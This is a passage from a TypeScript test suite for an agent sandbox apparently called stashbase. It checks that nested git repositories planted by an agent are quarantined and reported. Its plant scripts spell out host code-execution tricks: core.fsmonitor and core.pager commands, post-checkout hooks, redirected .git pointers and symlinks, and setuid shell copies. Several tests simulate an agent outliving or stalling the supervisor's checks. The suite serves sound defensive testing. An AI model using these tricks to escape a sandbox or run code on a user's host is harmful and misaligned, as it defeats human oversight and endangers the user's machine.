// A nested repository the agent registers as a submodule, whose own config
// sets core.fsmonitor: your git status afterwards would run it on the host.
// The run unplugs such a submodule (renames its .git) and says so; a harmless
// nested repository is left alone. Outside any sandbox the same plant does run (the control).
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { after, describe, test } from 'node:test';
import { BIN, cli, needs, needsRoot, tempHome } from '../helpers.js';
import { leftoversOf } from '../docker-setup.js';


/**
 * That `p` is no longer where it was, and said: named itself, or the folder of installed code it lies in moved aside
 * whole (round 28g: what lies in one goes with it, untouched).
 */
function assertGone(stderr: string, p: string): void {
  const esc = (x: string) => x.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  const itself = new RegExp(`the agent made or changed ${esc(p)}, .*: it was renamed`).test(stderr);
  const folder = [...stderr.matchAll(/the agent changed code in (\S+) \(/g)].some((m) => p.startsWith(`${m[1]}/`));
  assert.ok(itself || folder, `${p}\n${stderr}`);
  assert.equal(existsSync(p), false, p);
}

const PLANT = `set -e
git init -q evil
cd evil && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && cd ..
git -C evil config core.fsmonitor "touch $PWNFILE; false"
printf '#!/bin/sh\\ntouch %s\\n' "$PWNFILE" > evil/.git/hooks/post-checkout
chmod +x evil/.git/hooks/post-checkout
git update-index --add --cacheinfo "160000,$(git -C evil rev-parse HEAD),evil"
echo planted
`;

// Not registered anywhere: a repository in a subfolder (fires when you cd there with a
// git-aware prompt), and a pointer file in another one naming a planted git directory.
const SUBFOLDER = `set -e
mkdir -p lib/deep && git init -q lib/deep
git -C lib/deep config core.fsmonitor "touch $PWNFILE; false"
mkdir -p tools/.e && git init -q --bare tools/.e && git --git-dir=tools/.e config core.fsmonitor "touch $PWNFILE; false"
git --git-dir=tools/.e config core.bare false
echo "gitdir: .e" > tools/.git
echo planted
`;

// A git directory built inside your own .git/objects (writable: commits land there), named by a
// pointer file in a subfolder: the walk must not take it for one of your linked worktrees.
const IN_OBJECTS = `set -e
G=$PWD/.git/objects/evil
git init -q --bare "$G"
git --git-dir="$G" config core.bare false
git --git-dir="$G" config core.fsmonitor "touch $PWNFILE; false"
mkdir sub && echo "gitdir: $G" > sub/.git
echo planted
`;

// Two repositories planted in subfolders: the first run unplugs both (their .git renamed aside).
const TWO = `set -e
for d in nest nest3; do mkdir $d && git init -q $d && git -C $d config core.fsmonitor "touch $PWNFILE; false"; done
echo planted
`;
// The next run puts them back, in new places: one folder renamed into place, one named by a new pointer
// file. Their files are old; only where they now are is new.
const RESTORE = `set -e
mkdir nest2 other
mv nest/.git.stashbase-quarantine nest2/.git
mv nest2/.git/HEAD.stashbase-quarantine nest2/.git/HEAD
mv nest3/.git.stashbase-quarantine/HEAD.stashbase-quarantine nest3/.git.stashbase-quarantine/HEAD
echo "gitdir: ../nest3/.git.stashbase-quarantine" > other/.git
echo restored
`;

// Found in review: a .git that is a symlink, a pointer file whose path ends in a space (git keeps it),
// a bare repository under another name (git takes the folder you run it in), then a broken index,
// which must not stop the other checks (a new .mcp.json is still moved aside).
const VARIANTS = `set -e
plant() { git init -q --bare "$1"; git --git-dir="$1" config core.bare false; git --git-dir="$1" config core.fsmonitor "touch $PWNFILE; false"; }
plant gd && mkdir sub && ln -s ../gd sub/.git
plant "gd2 " && mkdir sub2 && printf 'gitdir: ../gd2 \\n' > sub2/.git
plant fixtures/evil.git && git --git-dir=fixtures/evil.git config core.worktree ..
plant va.git && git --git-dir=va.git config core.worktree "$PWD/va.git" && mv va.git/objects va.git/o && ln -s o va.git/objects
plant vb.git && git --git-dir=vb.git config core.worktree "$PWD/vb.git" && rm vb.git/HEAD && ln -s refs/heads/main vb.git/HEAD
git init -q --bare vc/common && git --git-dir=vc/common config core.pager "touch $PWNFILE; cat" && mkdir vc/b && mv vc/common/HEAD vc/b/HEAD && echo ../common > vc/b/commondir
plant .git/objects/zz.git && git --git-dir=.git/objects/zz.git config core.worktree "$PWD/vd/w" && mkdir -p vd/w && ln -s ../../.git/objects/zz.git/refs vd/w/l && printf 'gitdir: l/../\\n' > vd/w/.git
echo '{"mcpServers":{}}' > .mcp.json
echo garbage > .git/index
echo planted
`;

// Docker, where the agent writes your .git's folders itself: a new linked-worktree admin folder whose
// commondir is a git directory planted in objects/, and a setuid file inside .git.
const IN_WORKTREES = `set -e
R=$PWD
git init -q --bare .git/objects/pd && git --git-dir=.git/objects/pd config core.bare false && git --git-dir=.git/objects/pd config core.fsmonitor "touch $PWNFILE; false"
mkdir -p .git/worktrees/evil && echo ../../objects/pd > .git/worktrees/evil/commondir && echo "ref: refs/heads/main" > .git/worktrees/evil/HEAD && echo "$R/sub3/.git" > .git/worktrees/evil/gitdir
mkdir sub3 && echo "gitdir: $R/.git/worktrees/evil" > sub3/.git
cp /bin/true .git/objects/suidtrue
if chmod 4755 .git/objects/suidtrue 2>/dev/null; then echo setuid-set; else echo setuid-refused; fi
echo planted
`;

const HARMLESS = `set -e
git init -q plain
cd plain && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && cd ..
git update-index --add --cacheinfo "160000,$(git -C plain rev-parse HEAD),plain"
echo planted
`;

function describeBackend(name: string, docker: boolean) {
  describe(`nested repositories left by the agent (${name})`, needs(docker ? 'docker' : 'bwrap', 'git'), () => {
    const t = tempHome();
    after(() => t.cleanup());
    const makeRepo = (dir: string) => {
      mkdirSync(dir, { recursive: true });
      const g = (...a: string[]) => spawnSync('git', ['-C', dir, ...a], { env: t.env, encoding: 'utf8' });
      assert.equal(g('init', '-q').status, 0);
      assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '--allow-empty', '-m', 'init').status, 0);
      writeFileSync(join(dir, 'plant.sh'), PLANT);
      writeFileSync(join(dir, 'harmless.sh'), HARMLESS);
      return g;
    };
    const flags = docker ? ['--docker-sandbox', 'true'] : [];

    test('core.fsmonitor and a hook in a submodule the agent registered: unplugged, named, and your git status runs nothing', async () => {
      const marker = join(t.dir, `PWNED-${name}`);
      // The control: planted outside any sandbox, your git status runs it.
      const control = join(t.dir, `control-${name}`);
      const cg = makeRepo(control);
      assert.equal(spawnSync('sh', ['plant.sh'], { cwd: control, env: { ...t.env, PWNFILE: marker }, encoding: 'utf8' }).stdout, 'planted\n');
      cg('status', '--short');
      assert.equal(existsSync(marker), true, 'the plant works when nothing stops it');
      spawnSync('rm', ['-f', marker]);

      const repo = join(t.dir, `repo-${name}`);
      const g = makeRepo(repo);
      // Native with --silent: the warning is said all the same (stashbase changed your repository).
      const r = await cli(['agent', 'run', ...(docker ? [] : ['--silent']), ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', 'plant.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'planted\n');
      const evil = join(repo, 'evil', '.git');
      assert.ok(
        r.stderr.includes(
          `warning: the agent left a nested repository at ${join(repo, 'evil')}, registered as a submodule, whose git files would run programs when your git visits it (git status does): ` +
            `${evil}/config: core.fsmonitor; ${evil}/hooks/post-checkout: a hook. Its .git was renamed ${evil}.stashbase-quarantine and its HEAD ${evil}.stashbase-quarantine/HEAD.stashbase-quarantine, so git takes neither for a repository; review it, then restore it with: mv ${evil}.stashbase-quarantine/HEAD.stashbase-quarantine ${evil}.stashbase-quarantine/HEAD && mv ${evil}.stashbase-quarantine ${evil}\n`,
        ),
        r.stderr,
      );
      assert.deepEqual([existsSync(evil), existsSync(`${evil}.stashbase-quarantine`)], [false, true]);
      assert.match(readFileSync(join(`${evil}.stashbase-quarantine`, 'config'), 'utf8'), /fsmonitor = "touch /);
      assert.match(g('status', '--short').stdout, /^A {2}evil$/m);
      assert.equal(existsSync(marker), false, 'your git status ran nothing');
    });

    test("a submodule's git directory planted before it was ever checked out: your git submodule update --init runs nothing", async () => {
      const marker = join(t.dir, `PWNED-module-${name}`);
      const make = (dir: string) => {
        const g = makeRepo(dir);
        // The submodule's source is a repository of yours inside the folder (the sandbox sees it too).
        const src = join(dir, 'vendor-src');
        mkdirSync(src);
        spawnSync('git', ['-C', src, 'init', '-q'], { env: t.env });
        spawnSync('git', ['-C', src, '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 's'], { env: t.env });
        writeFileSync(join(dir, '.git', 'info', 'exclude'), 'vendor-src/\n');
        g('-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', src, 'lib');
        g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'submodule');
        g('submodule', 'deinit', '-q', '-f', 'lib');
        spawnSync('rm', ['-rf', join(dir, '.git', 'modules')]);
        return g;
      };
      const plant = [
        'git clone -q --no-checkout vendor-src /tmp/m && mkdir -p .git/modules && mv /tmp/m/.git .git/modules/lib',
        'git --git-dir=.git/modules/lib config core.worktree ../../../lib',
        `printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/modules/lib/hooks/post-checkout && chmod +x .git/modules/lib/hooks/post-checkout`,
      ].join(' && ') + '; echo done';
      const repo = join(t.dir, `module-${name}`);
      const g = make(repo);
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', plant], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.stdout, 'done\n', r.stderr);
      g('-c', 'protocol.file.allow=always', 'submodule', 'update', '-q', '--init');
      assert.equal(existsSync(marker), false, 'your submodule update ran no hook');
      // The control: the same plant outside, and your submodule update runs it.
      const control = join(t.dir, `module-control-${name}`);
      const cg = make(control);
      spawnSync('sh', ['-c', plant.replace('/tmp/m', join(t.dir, `m-${name}`)).replace('/tmp/m/.git', join(t.dir, `m-${name}`, '.git'))], { cwd: control, env: t.env });
      cg('-c', 'protocol.file.allow=always', 'submodule', 'update', '-q', '--init');
      assert.equal(existsSync(marker), true);
      spawnSync('rm', ['-f', marker]);
    });

    test("a linked worktree's .git pointer file cannot be redirected to a git directory the agent made", async () => {
      const marker = join(t.dir, `PWNED-pointer-${name}`);
      const main = join(t.dir, `ptr-main-${name}`);
      const g = makeRepo(main);
      const wt = join(t.dir, `ptr-wt-${name}`);
      assert.equal(g('worktree', 'add', '-q', wt).status, 0);
      const before = readFileSync(join(wt, '.git'), 'utf8');
      const plant = `git init -q --bare .e && git --git-dir=.e config core.bare false && git --git-dir=.e config core.fsmonitor "touch ${marker}; false"; echo "gitdir: .e" > .git 2>/dev/null && echo redirected || echo refused`;
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', plant], { env: t.env, cwd: wt, timeoutMs: 90_000 });
      assert.equal(r.stdout, 'refused\n', r.stderr);
      assert.equal(readFileSync(join(wt, '.git'), 'utf8'), before);
      spawnSync('git', ['status'], { cwd: wt, env: t.env });
      assert.equal(existsSync(marker), false, 'your git status ran nothing');
      // The control: outside, the redirect lands and your git status runs it.
      spawnSync('sh', ['-c', plant], { cwd: wt });
      spawnSync('git', ['status'], { cwd: wt, env: t.env });
      assert.equal(existsSync(marker), true);
    });

    test('setuid and setgid files never survive the run (as root: a setuid-root shell), whatever their name (review: one named .git was moved aside as a planted repository with its bit)', async () => {
      const repo = join(t.dir, `suid-${name}`);
      makeRepo(repo);
      const plant = 'cp /bin/sh suidsh && chmod 4755 suidsh; cp /bin/sh sgidsh && chmod 2755 sgidsh; mkdir -p a/b && cp /bin/sh a/b/.git && chmod 4755 a/b/.git; echo done';
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', plant], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      const setid = spawnSync('find', [repo, '-perm', '/6000', '-type', 'f'], { encoding: 'utf8' }).stdout;
      assert.equal(setid, '', 'no setuid or setgid file left');
      if (docker) assert.match(r.stderr, /suidsh with its setuid bit set .*: the bit was cleared/);
      // The control: outside, both keep their bits.
      spawnSync('sh', ['-c', plant], { cwd: repo });
      assert.equal(spawnSync('find', [repo, '-perm', '/6000', '-type', 'f'], { encoding: 'utf8' }).stdout.trim().split('\n').length, 3);
    });

    if (docker) {
      test('after a SIGKILL of stashbase, its watchdog removes the agent within seconds: it cannot plant after the kill', async () => {
        const repo = join(t.dir, `orphan-${name}`);
        makeRepo(repo);
        // The agent writes a heartbeat, then, two seconds after it is told stashbase is gone, plants.
        const script = `echo up; i=0; while [ ! -e killed ]; do echo beat >> beat.txt; sleep 0.1; done; sleep 2; sh plant.sh`;
        const child = spawn(process.execPath, [BIN, 'agent', 'run', ...flags, '--', 'sh', '-c', script], { env: { ...t.env, PWNFILE: join(t.dir, 'never') }, cwd: repo, stdio: ['ignore', 'pipe', 'pipe'] });
        let stderr = '';
        child.stderr.on('data', (d: Buffer) => (stderr += String(d)));
        await new Promise<void>((res) => child.stdout.on('data', (d: Buffer) => String(d).includes('up') && res()));
        const session = /Agent session: (ags_[a-z2-7]{16})/.exec(stderr)![1]!;
        child.kill('SIGKILL');
        await new Promise((res) => child.on('close', res));
        writeFileSync(join(repo, 'killed'), '');
        let gone = false;
        for (let i = 0; i < 100 && !gone; i++) {
          gone = leftoversOf(session).length === 0;
          if (!gone) await new Promise((res) => setTimeout(res, 100));
        }
        assert.equal(gone, true, 'containers and network removed within 10 s');
        await new Promise((res) => setTimeout(res, 3000));
        assert.equal(existsSync(join(repo, 'evil')), false, 'the orphan never planted');
        const next = await cli(['agent', 'run', '--', 'true'], { env: t.env, cwd: repo, timeoutMs: 60_000 });
        assert.equal(next.code, 0, next.stderr);
        assert.doesNotMatch(next.stderr, /nested repository/);
      });
    }

    if (docker) {
      test('after a SIGKILL of stashbase, the next run clears the setuid bit the Docker agent set before it (found in review: the reaper left it for good)', async () => {
        const repo = join(t.dir, `killed-suid-${name}`);
        makeRepo(repo);
        const child = spawn(process.execPath, [BIN, 'agent', 'run', '--silent', ...flags, '--', 'sh', '-c', 'cp /bin/sh suidsh && chmod 4755 suidsh && echo planted; sleep 60'], { env: t.env, cwd: repo, stdio: ['ignore', 'pipe', 'pipe'] });
        let stderr = '';
        child.stderr.on('data', (d: Buffer) => (stderr += String(d)));
        await new Promise<void>((res) => child.stdout.on('data', (d: Buffer) => String(d).includes('planted') && res()));
        assert.notEqual(lstatSync(join(repo, 'suidsh')).mode & 0o4000, 0, 'control: the bit is set on your disk while the run lasts');
        child.kill('SIGKILL');
        await new Promise((res) => child.on('close', res));
        // The watchdog removes the agent's container; the next run settles the killed one once it is gone.
        let r = await cli(['agent', 'run', '--', 'true'], { env: t.env, cwd: repo, timeoutMs: 60_000 });
        for (let i = 0; i < 50 && /still has its agent container/.test(r.stderr); i++) {
          await new Promise((res) => setTimeout(res, 200));
          r = await cli(['agent', 'run', '--', 'true'], { env: t.env, cwd: repo, timeoutMs: 60_000 });
        }
        assert.equal(r.code, 0, r.stderr);
        assert.match(r.stderr, /suidsh with its setuid bit set .*: the bit was cleared.* \(left by the killed run ags_[a-z2-7]{16}\)/);
        assert.equal(spawnSync('find', [repo, '-perm', '/6000', '-type', 'f'], { encoding: 'utf8' }).stdout, '');
      });
    }

    if (!docker) {
      test('(review, round 19) a stashbase killed during its end-of-run check (an agent can make the check long, and you stop it): the next run makes the check; its record was removed before', async () => {
        const repo = join(t.dir, `killed-check-${name}`);
        makeRepo(repo);
        writeFileSync(join(repo, '.gitignore'), 'build/\n');
        // A git that holds the end-of-run check where it asks what git ignores of what the agent left, until its caller is gone; every other use is git's own.
        const bin = join(t.dir, `slow-git-${name}`);
        mkdirSync(bin, { recursive: true });
        const mark = join(t.dir, `check-began-${name}`);
        const real = spawnSync('sh', ['-c', 'command -v git'], { env: t.env, encoding: 'utf8' }).stdout.trim();
        writeFileSync(join(bin, 'git'), `#!/bin/sh\ncase " $* " in *" check-ignore "*) [ -e '${join(repo, 'build', 'test_a.py')}' ] || exec '${real}' "$@"; touch '${mark}'; while kill -0 $PPID 2>/dev/null; do sleep 0.1; done; exit 1;; esac\nexec '${real}' "$@"\n`, { mode: 0o755 });
        // A repository in a subfolder, which only the walk of the tree finds (after it asks git), and a file git ignores.
        const plant = 'git init -q sub/evil && git -C sub/evil config core.fsmonitor "touch $PWNFILE; false" && mkdir -p build && echo x > build/test_a.py';
        const child = spawn(process.execPath, [BIN, 'agent', 'run', '--silent', '--', 'sh', '-c', plant], { env: { ...t.env, PATH: `${bin}:${t.env.PATH}`, PWNFILE: join(t.dir, 'never') }, cwd: repo, stdio: ['ignore', 'pipe', 'pipe'] });
        let stderr = '';
        child.stderr.on('data', (d: Buffer) => (stderr += String(d)));
        for (let i = 0; i < 600 && !existsSync(mark); i++) await new Promise((res) => setTimeout(res, 100));
        assert.equal(existsSync(mark), true, `the check began: ${stderr}`);
        child.kill('SIGKILL');
        await new Promise((res) => child.on('close', res));
        // What the attack needs: the check stopped before it unplugged the planted repository.
        assert.equal(existsSync(join(repo, 'sub', 'evil', '.git')), true);
        const r = await cli(['agent', 'run', '--', 'true'], { env: t.env, cwd: repo, timeoutMs: 60_000 });
        assert.equal(r.code, 0, r.stderr);
        assert.match(r.stderr, new RegExp(`warning: the agent left a nested repository at ${join(repo, 'sub', 'evil').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, .* \\(left by the killed run ags_[a-z2-7]{16}\\)\n`));
        assert.deepEqual([existsSync(join(repo, 'sub', 'evil', '.git')), existsSync(join(repo, 'sub', 'evil', '.git.stashbase-quarantine'))], [false, true]);
        assert.match(r.stderr, /build\/test_a\.py/);
      });
    }

    if (!docker) {
      test('after a SIGKILL of stashbase, the next run does the check the killed one could not', async () => {
        const repo = join(t.dir, `killed-${name}`);
        makeRepo(repo);
        const child = spawn(process.execPath, [BIN, 'agent', 'run', '--silent', '--', 'sh', '-c', 'sh plant.sh; sleep 30'], { env: { ...t.env, PWNFILE: join(t.dir, 'never') }, cwd: repo, stdio: ['ignore', 'pipe', 'inherit'] });
        await new Promise<void>((res) => child.stdout.on('data', (d: Buffer) => String(d).includes('planted') && res()));
        child.kill('SIGKILL');
        await new Promise((res) => child.on('close', res));
        const r = await cli(['agent', 'run', '--', 'true'], { env: t.env, cwd: repo, timeoutMs: 60_000 });
        assert.equal(r.code, 0, r.stderr);
        assert.match(r.stderr, new RegExp(`warning: the agent left a nested repository at ${join(repo, 'evil').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, .* \\(left by the killed run ags_[a-z2-7]{16}\\)\n`));
        assert.deepEqual([existsSync(join(repo, 'evil', '.git')), existsSync(join(repo, 'evil', '.git.stashbase-quarantine'))], [false, true]);
      });
    }

    test('a repository planted in a subfolder, and a pointer file naming a planted git directory: unplugged, though no index names them', async () => {
      const marker = join(t.dir, `PWNED-sub-${name}`);
      const control = join(t.dir, `sub-control-${name}`);
      makeRepo(control);
      writeFileSync(join(control, 'sub.sh'), SUBFOLDER);
      spawnSync('sh', ['sub.sh'], { cwd: control, env: { ...t.env, PWNFILE: marker } });
      spawnSync('git', ['status'], { cwd: join(control, 'lib', 'deep'), env: t.env });
      assert.equal(existsSync(marker), true, 'outside, cd lib/deep && git status runs it');
      spawnSync('rm', ['-f', marker]);
      spawnSync('git', ['status'], { cwd: join(control, 'tools'), env: t.env });
      assert.equal(existsSync(marker), true, 'and so does the pointer file');
      spawnSync('rm', ['-f', marker]);

      const repo = join(t.dir, `sub-${name}`);
      makeRepo(repo);
      writeFileSync(join(repo, 'sub.sh'), SUBFOLDER);
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', 'sub.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, new RegExp(`nested repository at ${join(repo, 'lib', 'deep').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, in a subfolder, .*core\\.fsmonitor`));
      assert.match(r.stderr, new RegExp(`nested repository at ${join(repo, 'tools').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, in a subfolder, .*core\\.fsmonitor`));
      for (const d of ['lib/deep', 'tools']) {
        spawnSync('git', ['status'], { cwd: join(repo, d), env: t.env });
        assert.equal(existsSync(join(repo, d, '.git.stashbase-quarantine')), true, d);
      }
      assert.equal(existsSync(marker), false, 'your git status in either folder ran nothing');
    });

    test('a git directory built inside your .git/objects and named by a pointer file: it stays in the run\'s own object store, never in yours', async () => {
      const marker = join(t.dir, `PWNED-objects-${name}`);
      const control = join(t.dir, `objects-control-${name}`);
      makeRepo(control);
      writeFileSync(join(control, 'in-objects.sh'), IN_OBJECTS);
      spawnSync('sh', ['in-objects.sh'], { cwd: control, env: { ...t.env, PWNFILE: marker } });
      spawnSync('git', ['status'], { cwd: join(control, 'sub'), env: t.env });
      assert.equal(existsSync(marker), true, 'outside, cd sub && git status runs it');
      spawnSync('rm', ['-f', marker]);

      const repo = join(t.dir, `objects-${name}`);
      makeRepo(repo);
      writeFileSync(join(repo, 'in-objects.sh'), IN_OBJECTS);
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', 'in-objects.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(existsSync(join(repo, '.git', 'objects', 'evil')), false, 'nothing of it is in your .git/objects');
      spawnSync('git', ['status'], { cwd: join(repo, 'sub'), env: t.env });
      assert.equal(existsSync(marker), false, 'your git status in sub ran nothing');
    });

    test('repositories unplugged by one run and put back by the next (renamed into place, or named by a new pointer file): unplugged again', async () => {
      const marker = join(t.dir, `PWNED-restore-${name}`);
      const repo = join(t.dir, `restore-${name}`);
      makeRepo(repo);
      writeFileSync(join(repo, 'two.sh'), TWO);
      writeFileSync(join(repo, 'restore.sh'), RESTORE);
      const first = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', 'two.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(first.code, 0, first.stderr);
      assert.equal(first.stderr.match(/nested repository at/g)?.length, 2, first.stderr);
      const second = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', 'restore.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(second.code, 0, second.stderr);
      assert.equal(second.stdout, 'restored\n');
      for (const d of ['nest2', 'other']) {
        assert.match(second.stderr, new RegExp(`nested repository at ${join(repo, d).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, in a subfolder, .*core\\.fsmonitor`));
        spawnSync('git', ['status'], { cwd: join(repo, d), env: t.env });
      }
      assert.equal(existsSync(marker), false, 'your git status in either folder ran nothing');
      // The control: the same files put back outside a run do run.
      spawnSync('mv', [join(repo, 'nest2', '.git.stashbase-quarantine'), join(repo, 'nest2', '.git')]);
      spawnSync('mv', [join(repo, 'nest2', '.git', 'HEAD.stashbase-quarantine'), join(repo, 'nest2', '.git', 'HEAD')]);
      spawnSync('git', ['status'], { cwd: join(repo, 'nest2'), env: t.env });
      assert.equal(existsSync(marker), true);
    });

    test('(round 13) old pointers whose way to their git directory the next run changes: a folder on it replaced by a link into another .git, where a git directory made in the first run waited (and, unnamed, a link at a folder higher on the way): unplugged; control: put back, your git status runs it', async () => {
      const marker = join(t.dir, `PWNED-way-${name}`);
      const repo = join(t.dir, `way-${name}`);
      makeRepo(repo);
      // The first run leaves what looks harmless: a repository whose .git holds two git directories with an fsmonitor
      // (the walk does not enter a .git), and two pointers to plain bare repositories.
      writeFileSync(join(repo, 'one.sh'), `set -e
git init -q holder && mkdir -p holder/.git/box
for g in holder/.git/good holder/.git/box/gd; do git init -q --bare $g && git --git-dir=$g config core.bare false && git --git-dir=$g config core.fsmonitor "touch $PWNFILE; false"; done
mkdir -p sub/a subc/a/b && git init -q --bare sub/a/gd && git init -q --bare subc/a/b/gd
printf 'gitdir: a/gd\\n' > sub/.git && printf 'gitdir: a/b/gd\\n' > subc/.git
echo planted
`);
      writeFileSync(join(repo, 'two.sh'), `set -e
rm -rf sub/a/gd && ln -s ../../holder/.git/good sub/a/gd
rm -rf subc/a/b && ln -s ../../holder/.git/box subc/a/b
echo swapped
`);
      const first = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', 'one.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(first.code, 0, first.stderr);
      assert.equal(first.stdout, 'planted\n');
      assert.doesNotMatch(first.stderr, /nested repository at/);
      const second = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', 'two.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(second.code, 0, second.stderr);
      assert.equal(second.stdout, 'swapped\n');
      for (const d of ['sub', 'subc']) {
        assert.match(second.stderr, new RegExp(`nested repository at ${join(repo, d).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, in a subfolder, .*core\\.fsmonitor`));
        spawnSync('git', ['status'], { cwd: join(repo, d), env: t.env });
      }
      assert.equal(existsSync(marker), false, 'your git status in either folder ran nothing');
      // The control: the pointer put back (and the link on its way, which the run's end removed: it leads into a .git
      // folder, where git shows nothing), your git status there runs the agent's fsmonitor.
      spawnSync('mv', [join(repo, 'sub', '.git.stashbase-quarantine'), join(repo, 'sub', '.git')]);
      spawnSync('ln', ['-sfn', '../../holder/.git/good', join(repo, 'sub', 'a', 'gd')]);
      spawnSync('git', ['status'], { cwd: join(repo, 'sub'), env: t.env });
      assert.equal(existsSync(marker), true);
    });

    if (!docker) {
      test('(round 14) a submodule whose git directory lies in an allow_write folder outside the tree, swapped by renaming a copy an earlier run made: unplugged; control: put back, your git status runs it', async () => {
        const marker = join(t.dir, `PWNED-outside-${name}`);
        const home = t.env.HOME as string;
        const repo = join(t.dir, `outside-${name}`);
        const g = makeRepo(repo);
        const gitdirs = join(home, 'gitdirs');
        // A folder of yours beside the git directory: what the agent makes in it leaves the way to the git directory as it was.
        mkdirSync(join(gitdirs, 'other'), { recursive: true });
        const id = ['-c', 'user.name=me', '-c', 'user.email=me@x'];
        assert.equal(spawnSync('git', ['init', '-q', `--separate-git-dir=${join(gitdirs, 'lib')}`, join(repo, 'vendor', 'lib')], { env: t.env }).status, 0);
        writeFileSync(join(repo, 'vendor', 'lib', 'f'), 'v\n');
        assert.equal(spawnSync('git', ['-C', join(repo, 'vendor', 'lib'), 'add', 'f'], { env: t.env }).status, 0);
        assert.equal(spawnSync('git', ['-C', join(repo, 'vendor', 'lib'), ...id, 'commit', '-q', '-m', 'v'], { env: t.env }).status, 0);
        assert.equal(g('add', 'vendor/lib').status, 0);
        assert.equal(g(...id, 'commit', '-q', '-m', 'with lib').status, 0);
        mkdirSync(join(t.sbHome, 'agents'), { recursive: true });
        writeFileSync(join(t.sbHome, 'agents', 'gitdirs.toml'), '[filesystem]\nallow_write = ["~/gitdirs"]\n');
        const first = await cli(['agent', 'run', '--silent', '--profile', 'gitdirs', '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', 'cp -a ~/gitdirs/lib ~/gitdirs/other/evil && git config --file ~/gitdirs/other/evil/config core.fsmonitor "touch $PWNFILE; false" && echo copied'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
        assert.equal(first.code, 0, first.stderr);
        assert.equal(first.stdout, 'copied\n');
        assert.equal(first.stderr, '', 'the first run leaves nothing to say');
        const second = await cli(['agent', 'run', '--silent', '--profile', 'gitdirs', '--', 'sh', '-c', 'mv ~/gitdirs/lib ~/gitdirs/other/lib.old && mv ~/gitdirs/other/evil ~/gitdirs/lib && echo swapped'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
        assert.equal(second.code, 0, second.stderr);
        assert.equal(second.stdout, 'swapped\n');
        assert.match(second.stderr, new RegExp(`nested repository at ${join(repo, 'vendor', 'lib').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, in a subfolder, .*core\\.fsmonitor`));
        spawnSync('git', ['status'], { cwd: join(repo, 'vendor', 'lib'), env: t.env });
        assert.equal(existsSync(marker), false, 'your git status there ran nothing');
        // The control: the pointer put back, your git status there runs the agent's fsmonitor.
        spawnSync('mv', [join(repo, 'vendor', 'lib', '.git.stashbase-quarantine'), join(repo, 'vendor', 'lib', '.git')]);
        spawnSync('git', ['status'], { cwd: join(repo, 'vendor', 'lib'), env: t.env });
        assert.equal(existsSync(marker), true);
      });
    }

    if (!docker) {
      test('(round 14) with deny-list writes, a change beside the tree (in a folder above it) leaves a nested repository of yours with its hook alone: no warning; control: the same change inside its git directory\'s way unplugs it', async () => {
        const repo = join(t.dir, 'beside', `repo-${name}`);
        makeRepo(repo);
        mkdirSync(join(repo, 'gds'));
        assert.equal(spawnSync('git', ['init', '-q', `--separate-git-dir=${join(repo, 'gds', 'inner')}`, join(repo, 'inner')], { env: t.env }).status, 0);
        writeFileSync(join(repo, 'gds', 'inner', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
        mkdirSync(join(t.sbHome, 'agents'), { recursive: true });
        writeFileSync(join(t.sbHome, 'agents', 'denylist.toml'), '[filesystem]\nwrites = "deny-list"\n');
        const r = await cli(['agent', 'run', '--silent', '--profile', 'denylist', '--', 'sh', '-c', 'touch ../sibling && echo touched'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
        assert.deepEqual([r.code, r.stdout, r.stderr], [0, 'touched\n', '']);
        assert.equal(existsSync(join(repo, 'inner', '.git')), true);
        // Control: a folder on the way in the tree renamed (the git directory moved and back) counts.
        const c = await cli(['agent', 'run', '--silent', '--profile', 'denylist', '--', 'sh', '-c', 'mv gds gds2 && mv gds2 gds && echo moved'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
        assert.equal(c.stdout, 'moved\n', c.stderr);
